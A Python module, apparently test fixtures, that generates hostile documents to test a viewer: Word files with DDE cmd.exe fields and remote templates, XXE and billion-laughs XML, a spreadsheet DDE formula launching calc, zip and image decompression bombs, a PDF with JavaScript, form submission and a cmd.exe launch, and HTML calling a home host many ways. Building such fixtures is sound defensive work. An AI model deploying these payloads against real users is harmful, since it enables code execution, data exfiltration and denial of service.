"""Files as somebody would make them who wants an officer's browser to do something."""

import io
import struct
import zipfile
import zlib

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def packed(parts: dict[str, bytes | str]) -> bytes:
    """Return a ZIP of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as folder:
        for name, content in parts.items():
            folder.writestr(name, content)
    return out.getvalue()


def document(body: str, **more: bytes | str) -> bytes:
    """Return a Word file with this body and other parts (`__` in a name stands for `/`)."""
    text = f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return packed(
        {"word/document.xml": text, **{name.replace("__", "/"): part for name, part in more.items()}}
    )


def macro(home: str) -> bytes:
    """Return a Word file with a macro, a template elsewhere and a DDE field."""
    reaching = f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="{TEMPLATE}" Target="{home}/t.dotm" TargetMode="External"/></Relationships>'
    body = "<w:p><w:r><w:t>Dear colleague</w:t></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    return document(
        body,
        **{
            "word__vbaProject.bin": b"\x00macro",
            "word__rels": "",
            "word___rels__settings.xml.rels": reaching,
        },
    )


def entities(home: str) -> bytes:
    """Return a Word file whose XML names things elsewhere and grows without end."""
    grown = "".join(f'<!ENTITY l{n} "&l{n - 1};&l{n - 1};&l{n - 1};&l{n - 1};">' for n in range(1, 15))
    doctype = f'<!DOCTYPE w [<!ENTITY x SYSTEM "{home}/x"><!ENTITY l0 "lol">{grown}]>'
    return packed(
        {
            "word/document.xml": f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD}"><w:p><w:t>&x;&l14;</w:t></w:p></w:document>'
        }
    )


def sheet() -> bytes:
    """Return a spreadsheet with text, a number, and formulas that call out."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = '<c r="A1" t="s"><v>0</v></c><c r="B1"><v>4200</v></c><c r="C1"><f>WEBSERVICE("http://127.0.0.1:9/x")</f></c><c r="D1"><f>=cmd|\'/c calc\'!A0</f></c>'
    return packed(
        {
            "xl/workbook.xml": f'<workbook xmlns="{main}"><sheets><sheet name="Invoices" state="hidden"/></sheets></workbook>',
            "xl/sharedStrings.xml": f'<sst xmlns="{main}"><si><t>paid twice</t></si></sst>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData><row>{cells}</row></sheetData></worksheet>',
        }
    )


def bomb() -> bytes:
    """Return a Word file of 200 kB that unpacks to 200 MB."""
    return packed({"word/document.xml": b" " * 200_000_000})


def picture(width: int, height: int) -> bytes:
    """Return a PNG that says it is this large; its pixels are there only up to 64 × 64."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\0" + b"\x20\x60\x70" * min(width, 64) for _ in range(min(height, 64)))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def paper(home: str) -> bytes:
    """Return a PDF of one page that says hello, with scripts, a launch, a link and a form that is sent elsewhere."""
    stream = b"BT /F1 24 Tf 72 700 Td (Hello from the paper) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert('x'); this.submitForm('{home}/s'); app.launchURL('{home}/l')) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >> >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /Launch /F (cmd.exe) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI ({home}/u) >> >>] >>".encode(),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


def script(home: str) -> str:
    """Return markup that calls home in every way a page knows."""
    return f"""<html><body onload="fetch('{home}/o')"><script>document.title='taken';fetch('{home}/f');top.location='{home}/t';
new Image().src='{home}/i';navigator.sendBeacon('{home}/b');alert(1)</script><img src="{home}/g" onerror="alert(2)"><iframe src="{home}/h"></iframe>
<link rel="prefetch" href="{home}/p"><form action="{home}/a"><button autofocus>x</button></form><meta http-equiv="refresh" content="0;url={home}/m"></body></html>"""
